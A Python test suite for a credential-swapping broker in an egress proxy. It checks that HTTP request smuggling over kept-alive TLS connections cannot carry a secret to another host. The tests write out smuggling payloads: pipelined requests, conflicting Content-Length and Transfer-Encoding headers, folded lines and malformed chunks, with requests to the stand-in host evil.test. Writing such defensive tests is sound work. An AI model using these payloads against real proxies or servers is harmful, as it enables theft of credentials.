"""The broker's persistent connections attacked: a hostile server keeps its brokered
connection to the secret's host open (CONNECT, then TLS through the session CA it trusts)
and writes several requests on it, pipelined, chunked, or framed so that the host could
read a second request where the broker read a body (a length and chunks, two lengths, a
folded line, a request after the last chunk or after the length). The host is a TLS server
on loopback with its own CA that serves many requests per connection and records every
byte each connection carried; what it got is read as a lenient server reads it (the
first length, chunks over a length, a bare LF as a line's end, a folded line's name as a
header's). The promise checked: the value reaches no request addressed to anything but the
secret's host, and the server never reads it back. Each control writes the same bytes with
the value through a plain tunnel and shows it reaching another host."""

from __future__ import annotations

import asyncio
import re
import ssl
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from launcher.host.session_ca import SessionCA
from launcher.plan.secrets_plan import Brokered, new_sentinel
from launcher.servers.broker import BODY_LIMIT, Broker
from launcher.servers.egress_proxy import EgressProxy, Refusal
from policy.egress import EgressRules
from tests.attacks.test_broker_framing import addressed
from tests.support.tls_upstream import make_authority

VALUE = "s3cr3t-Value-for-the-api-7f3a9c1e5d2b"
HOST = "api.test"
SENTINEL = new_sentinel()
AUTH = f"Authorization: Bearer {SENTINEL}"


@dataclass
class KeptAlive:
    """A TLS host on loopback serving requests one after another on each connection: the
    bytes each connection carried, and each request it read. ``drop``: it ends each
    connection after one answer without saying so (as a host ends an idle one)."""

    drop: bool = False
    silent_second: bool = False  # it closes on the second request without answering it
    streams: list[bytes] = field(default_factory=list)
    requests: list[bytes] = field(default_factory=list)
    ended: asyncio.Event = field(default_factory=asyncio.Event)

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        index = len(self.streams)
        self.streams.append(b"")
        try:
            while True:
                request = await _one_request(reader)
                self.streams[index] += request
                self.requests.append(request)
                if self.silent_second and self.streams[index].count(b" HTTP/1.") == 2:
                    break
                closing = bool(re.search(rb"(?im)^connection:\s*close|HTTP/1\.0\r\n", request))
                writer.write(_answer(request, closing))
                await writer.drain()
                if closing or self.drop:
                    break
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
            pass
        finally:
            writer.close()
            self.ended.set()


async def _one_request(reader: asyncio.StreamReader) -> bytes:
    """A request as a lenient server frames it: chunks win over a length, the first
    length over a second."""
    head = await reader.readuntil(b"\r\n\r\n")
    if re.search(rb"(?im)^transfer-encoding:\s*chunked", head):
        return head + await reader.readuntil(b"0\r\n\r\n")
    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
    return head + (await reader.readexactly(int(length.group(1))) if length else b"")


def _answer(request: bytes, closing: bool) -> bytes:
    """What it got said back: the path, the credential, the body."""
    path = request.split(b" ", 2)[1]
    auth = re.search(rb"(?im)^authorization:\s*bearer\s+(\S+)", request)
    body = b"path=" + path + b" auth=" + (auth.group(1) if auth else b"-")
    body += b" body=" + request.partition(b"\r\n\r\n")[2]
    head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n" % len(body)
    return head + (b"Connection: close\r\n" if closing else b"") + b"\r\n" + body


def leaked_elsewhere(host: KeptAlive) -> list[str]:
    """The requests the host's connections carried that hold the value and are addressed to
    another host, read leniently."""
    return [
        request
        for stream in host.streams
        for hosts, request in addressed(stream)
        if VALUE in request and hosts - {HOST}
    ]


def answers(seen: bytes) -> list[bytes]:
    """The answers the server read, each its head and its body out of its framing."""
    out: list[bytes] = []
    while seen:
        head, _, seen = seen.partition(b"\r\n\r\n")
        body = b""
        if re.search(rb"(?im)^transfer-encoding:\s*chunked", head):
            while (size := int(seen.split(b"\r\n", 1)[0], 16)) != 0:
                start = seen.index(b"\r\n") + 2
                body, seen = body + seen[start : start + size], seen[start + size + 2 :]
            seen = seen.partition(b"\r\n\r\n")[2]
        elif length := re.search(rb"(?im)^content-length:\s*(\d+)", head):
            body, seen = seen[: int(length.group(1))], seen[int(length.group(1)) :]
        else:
            body, seen = seen, b""
        out.append(head + b"\r\n\r\n" + body)
    return out


@dataclass
class Run:
    seen: bytes  # every byte the server read back
    host: KeptAlive
    refusals: list[Refusal]


async def _read_all(reader: asyncio.StreamReader) -> bytes:
    data = b""
    try:
        while chunk := await reader.read(65536):
            data += chunk
    except (ConnectionError, ssl.SSLError):
        pass
    return data


def exchange(
    tmp_path: Path,
    writes: list[bytes],
    brokered: bool = True,
    body: bool = True,
    host: KeptAlive | None = None,
) -> Run:
    """``writes`` written one after another inside one brokered connection to the secret's
    host, each after the answers to the one before were read (the last ends with
    ``Connection: close``, or a refusal ends the connection). Not ``brokered``: the proxy
    is a plain tunnel and the server writes the value where it wrote its sentinel."""
    ca_file, chain = make_authority(tmp_path, [HOST])
    refusals: list[Refusal] = []
    secret = Brokered("API_TOKEN", SENTINEL, VALUE, ((HOST, None),), body)

    async def scenario() -> Run:
        upstream = host or KeptAlive()
        host_tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        host_tls.load_cert_chain(chain)
        listening = await asyncio.start_server(upstream.handle, "127.0.0.1", 0, ssl=host_tls)
        port = listening.sockets[0].getsockname()[1]
        rules = EgressRules.from_config([f"{HOST}:{port}"], [], {HOST: "127.0.0.1"})
        session_ca = SessionCA("probe")
        broker = Broker([secret], session_ca)
        broker.upstream.load_verify_locations(ca_file)  # the host's CA, pinned
        sock = str(tmp_path / "egress.sock")
        proxy = EgressProxy("probe", rules, sock, refusals.append, broker if brokered else None)
        await proxy.start()
        try:
            reader, writer = await asyncio.open_unix_connection(sock)
            writer.write(f"CONNECT {HOST}:{port} HTTP/1.1\r\n\r\n".encode())
            assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
            trusted = ssl.create_default_context(cadata=session_ca.pem().decode())
            if not brokered:
                trusted = ssl.create_default_context(cafile=ca_file)
            await writer.start_tls(trusted, server_hostname=HOST)
            seen = await asyncio.wait_for(_converse(reader, writer, writes, brokered), 60)
            writer.close()
            return Run(seen, upstream, refusals)
        finally:
            await proxy.stop()
            listening.close()
            await listening.wait_closed()

    return asyncio.run(scenario())


async def _converse(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, writes: list[bytes], brokered: bool
) -> bytes:
    seen = b""
    expected = 0
    for number, data in enumerate(writes):
        writer.write(data if brokered else data.replace(SENTINEL.encode(), VALUE.encode()))
        await writer.drain()
        expected += data.count(b" HTTP/1.1\r\n")
        # The answers to this write, whole (each chunked: its last chunk), before the next.
        while number < len(writes) - 1 and seen.count(b"\r\n0\r\n\r\n") < expected:
            more = await reader.read(65536)
            if not more:
                return seen
            seen += more
    return seen + await _read_all(reader)


GOOD = f"GET /first HTTP/1.1\r\nHost: {HOST}\r\n{AUTH}\r\n\r\n"
EVIL = f"GET /stolen HTTP/1.1\r\nHost: evil.test\r\n{AUTH}\r\n\r\n"
LAST = f"GET /last HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n"


def _post(framing: str, body: str) -> str:
    return f"POST /upload HTTP/1.1\r\nHost: {HOST}\r\n{framing}\r\n\r\n{body}"


# HTTP/1.0 asking to keep the connection: the broker serves one request and ends it.
OLD = GOOD.replace("HTTP/1.1", "HTTP/1.0").replace(AUTH, AUTH + "\r\nConnection: keep-alive")
HIDDEN = "0\r\n\r\n" + EVIL  # a chunked body's end, then a request
# Each attack: the bytes the hostile server writes at once, and the refusal that stops it.
ATTACKS: dict[str, tuple[str, str]] = {
    "pipelined: a second request to another host": (GOOD + EVIL + LAST, "Host header"),
    "pipelined: a second request with an absolute target": (
        GOOD + EVIL.replace("/stolen", "https://evil.test/stolen") + LAST,
        "target is a path",
    ),
    "pipelined: a second Host on a folded line": (
        GOOD
        + EVIL.replace("Host: evil.test", f"Host: {HOST}\r\nX-A: a\r\n Host: evil.test")
        + LAST,
        "malformed header line",
    ),
    "Content-Length and Transfer-Encoding: a request in the body": (
        _post(f"Content-Length: {len(HIDDEN)}\r\nTransfer-Encoding: chunked", HIDDEN) + LAST,
        "both Content-Length and Transfer-Encoding",
    ),
    "Transfer-Encoding, then Content-Length": (
        _post(f"Transfer-Encoding: chunked\r\nContent-Length: {len(HIDDEN)}", HIDDEN) + LAST,
        "both Content-Length and Transfer-Encoding",
    ),
    "two Content-Lengths, the first short": (
        _post(f"Content-Length: 0\r\nContent-Length: {len(EVIL)}", EVIL) + LAST,
        "repeated Content-Length",
    ),
    "a request after a chunked body's last chunk": (
        _post("Transfer-Encoding: chunked", "5\r\nhello\r\n" + HIDDEN) + LAST,
        "Host header",
    ),
    "a request after a body's length": (
        _post("Content-Length: 2", "ok" + EVIL) + LAST,
        "Host header",
    ),
    "Connection: keep-alive on HTTP/1.0, then a request to another host": (OLD + EVIL + LAST, ""),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_no_request_on_a_kept_connection_takes_the_value_elsewhere(
    tmp_path: Path, name: str
) -> None:
    attack, refused = ATTACKS[name]
    run = exchange(tmp_path, [attack.encode("latin-1")])
    assert not leaked_elsewhere(run.host)
    assert VALUE.encode() not in run.seen
    assert all(VALUE not in r.reason for r in run.refusals)
    if refused:
        assert [r for r in run.refusals if refused in r.reason], run.refusals
        assert b"HTTP/1.1 400 " in run.seen
    else:  # HTTP/1.0: one request, the connection ends after it
        assert not run.refusals and len(run.host.requests) == 1
    # What came before the attack was served, its sentinel swapped, on one connection.
    for request in run.host.requests:
        assert SENTINEL.encode() not in request
    assert len(run.host.streams) == 1


@pytest.mark.parametrize("name", [n for n, (_, refused) in ATTACKS.items() if refused])
def test_control_the_same_bytes_take_the_value_elsewhere_through_a_plain_tunnel(
    tmp_path: Path, name: str
) -> None:
    run = exchange(tmp_path, [ATTACKS[name][0].encode("latin-1")], brokered=False)
    assert leaked_elsewhere(run.host)


# -- kept alive: many requests, one connection each side ------------------------------------


def _get(path: str, *more: str) -> bytes:
    return "\r\n".join([f"GET {path} HTTP/1.1", f"Host: {HOST}", AUTH, *more, "", ""]).encode()


def test_many_requests_go_on_one_connection_each_with_the_value_swapped(tmp_path: Path) -> None:
    pipelined = _get("/1") + b"\r\n" + _get("/2")  # an empty line between is passed over
    run = exchange(tmp_path, [pipelined, _get("/3"), _get("/4", "Connection: close")])
    assert len(run.host.streams) == 1 and len(run.host.requests) == 4
    for request in run.host.requests:
        assert f"Bearer {VALUE}".encode() in request and SENTINEL.encode() not in request
    said = answers(run.seen)
    assert [a.split(b"path=")[1].split(b" ")[0] for a in said] == [b"/1", b"/2", b"/3", b"/4"]
    for answer in said:
        assert b"auth=" + SENTINEL.encode() in answer and VALUE.encode() not in answer
    assert not run.refusals


def test_a_host_that_ended_the_idle_connection_is_connected_to_again(tmp_path: Path) -> None:
    host = KeptAlive(drop=True)
    run = exchange(tmp_path, [_get("/1"), _get("/2", "Connection: close")], host=host)
    assert len(run.host.streams) == 2 and len(run.host.requests) == 2
    assert all(f"Bearer {VALUE}".encode() in r for r in run.host.requests)
    assert VALUE.encode() not in run.seen and not run.refusals


def test_pipelined_requests_to_a_host_that_closes_after_each_answer_are_all_answered(
    tmp_path: Path,
) -> None:
    # The host closes each connection after one answer without saying so; the second and
    # third requests are already waiting: each goes on a new connection (sent again when
    # the old one closed under it: GET is safe to send twice).
    host = KeptAlive(drop=True)
    writes = [_get("/1") + _get("/2") + _get("/3", "Connection: close")]
    run = exchange(tmp_path, writes, host=host)
    paths = [a.split(b"path=")[1].split(b" ")[0] for a in answers(run.seen)]
    assert paths == [b"/1", b"/2", b"/3"] and not run.refusals
    assert all(f"Bearer {VALUE}".encode() in r for r in run.host.requests)


def test_a_request_the_host_closed_on_is_sent_again_only_when_that_is_safe(
    tmp_path: Path,
) -> None:
    # The host reads the second request on each connection and closes without answering:
    # a GET is sent again on a new connection; a POST (not safe to send twice) is refused.
    run = exchange(
        tmp_path, [_get("/1") + _get("/2", "Connection: close")], host=KeptAlive(silent_second=True)
    )
    paths = [a.split(b"path=")[1].split(b" ")[0] for a in answers(run.seen)]
    assert paths == [b"/1", b"/2"] and len(run.host.streams) == 2 and not run.refusals
    post = _post(f"{AUTH}\r\nConnection: close\r\nContent-Length: 2", "ok").encode()
    run = exchange(tmp_path, [_get("/1") + post], host=KeptAlive(silent_second=True))
    assert [r for r in run.host.requests if r.startswith(b"POST ")] == [run.host.requests[1]]
    assert len(run.host.streams) == 1
    assert [r for r in run.refusals if "closed without answering" in r.reason]
    assert b"HTTP/1.1 502 " in run.seen


# -- chunked request bodies ------------------------------------------------------------------


def _chunked(*pieces: str, path: str = "/upload") -> bytes:
    chunks = "".join(f"{len(p.encode()):x}\r\n{p}\r\n" for p in pieces)
    head = f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n"
    return (head + "Connection: close\r\n\r\n" + chunks + "0\r\n\r\n").encode()


CUT = len(SENTINEL) // 2
# The sentinel whole in one chunk, and cut across two.
BODIES = {
    "whole": ('{"token": "', SENTINEL, '"}'),
    "cut across chunks": ('{"token": "' + SENTINEL[:CUT], SENTINEL[CUT:] + '"}'),
}


@pytest.mark.parametrize("name", list(BODIES))
def test_a_chunked_body_carries_the_value_where_the_secret_says_so(
    tmp_path: Path, name: str
) -> None:
    run = exchange(tmp_path, [_chunked(*BODIES[name])])
    (request,) = run.host.requests
    head, _, body = request.partition(b"\r\n\r\n")
    assert body == ('{"token": "' + VALUE + '"}').encode()
    assert b"\r\nContent-Length: %d\r\n" % len(body) in head + b"\r\n"
    assert b"Transfer-Encoding" not in head
    said = b"".join(answers(run.seen))
    assert VALUE.encode() not in said and SENTINEL.encode() in said
    assert not run.refusals


@pytest.mark.parametrize("name", list(BODIES))
def test_a_sentinel_in_a_chunked_body_is_refused_where_the_secret_says_not(
    tmp_path: Path, name: str
) -> None:
    run = exchange(tmp_path, [_chunked(*BODIES[name])], body=False)
    assert not run.host.requests  # the host got no request
    assert [r for r in run.refusals if "sentinel in the body: not allowed" in r.reason]
    assert run.seen.startswith(b"HTTP/1.1 403 ")


# A chunked body framed so a lenient reader could end it elsewhere: each refused before the
# host gets any of it.
MALFORMED = {
    "a size with a 0x prefix": "0x5\r\nhello\r\n0\r\n\r\n",
    "a size with a sign": "+5\r\nhello\r\n0\r\n\r\n",
    "a size with a space": "5 \r\nhello\r\n0\r\n\r\n",
    "a size line ended by a bare LF": "5\nhello\r\n0\r\n\r\n",
    "a size of more than 16 digits": "00000000000000005\r\nhello\r\n0\r\n\r\n",
    "data longer than its size": "3\r\nhello\r\n0\r\n\r\n",
    "an extension holding a bare LF": "5;a=\nb\r\nhello\r\n0\r\n\r\n",
    "a trailer with a bare LF": "5\r\nhello\r\n0\r\nX-T: a\nHost: evil.test\r\n\r\n",
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_a_malformed_chunked_body_is_refused_before_the_host_gets_any_of_it(
    tmp_path: Path, name: str
) -> None:
    head = f"POST /upload HTTP/1.1\r\nHost: {HOST}\r\n{AUTH}\r\nTransfer-Encoding: chunked\r\n\r\n"
    run = exchange(tmp_path, [(head + MALFORMED[name] + LAST).encode()])
    assert not run.host.requests
    assert [r for r in run.refusals if "chunk" in r.reason], run.refusals
    assert run.seen.startswith(b"HTTP/1.1 400 ")


def test_a_chunked_body_over_the_limit_is_refused(tmp_path: Path) -> None:
    head = f"POST /upload HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n"
    run = exchange(tmp_path, [(head + f"{BODY_LIMIT + 1:x}\r\n").encode()])
    assert not run.host.requests
    assert run.seen.startswith(b"HTTP/1.1 413 ")


def test_a_sentinel_in_a_chunked_bodys_trailer_goes_nowhere(tmp_path: Path) -> None:
    head = f"POST /upload HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n"
    trailer = f"5\r\nhello\r\n0\r\nX-Token: {SENTINEL}\r\n\r\n"
    run = exchange(tmp_path, [(head + "Connection: close\r\n\r\n" + trailer).encode()])
    (request,) = run.host.requests
    assert request.endswith(b"\r\n\r\nhello") and b"X-Token" not in request
    assert SENTINEL.encode() not in request and VALUE.encode() not in request


def test_a_later_request_is_held_to_the_secrets_rules_like_the_first(tmp_path: Path) -> None:
    # The second request on the kept connection puts the sentinel in its URL, then in a
    # body the secret does not allow: each refused, the first served.
    for second, said in (
        (f"GET /?token={SENTINEL} HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "in the url"),
        (_post(f"Content-Length: {len(SENTINEL)}", SENTINEL), "in the body"),
    ):
        run = exchange(tmp_path, [(GOOD + second).encode()], body=False)
        assert [r for r in run.refusals if said in r.reason], run.refusals
        assert len(run.host.requests) == 1 and b"/first" in run.host.requests[0]
        assert b" 403 " in run.seen
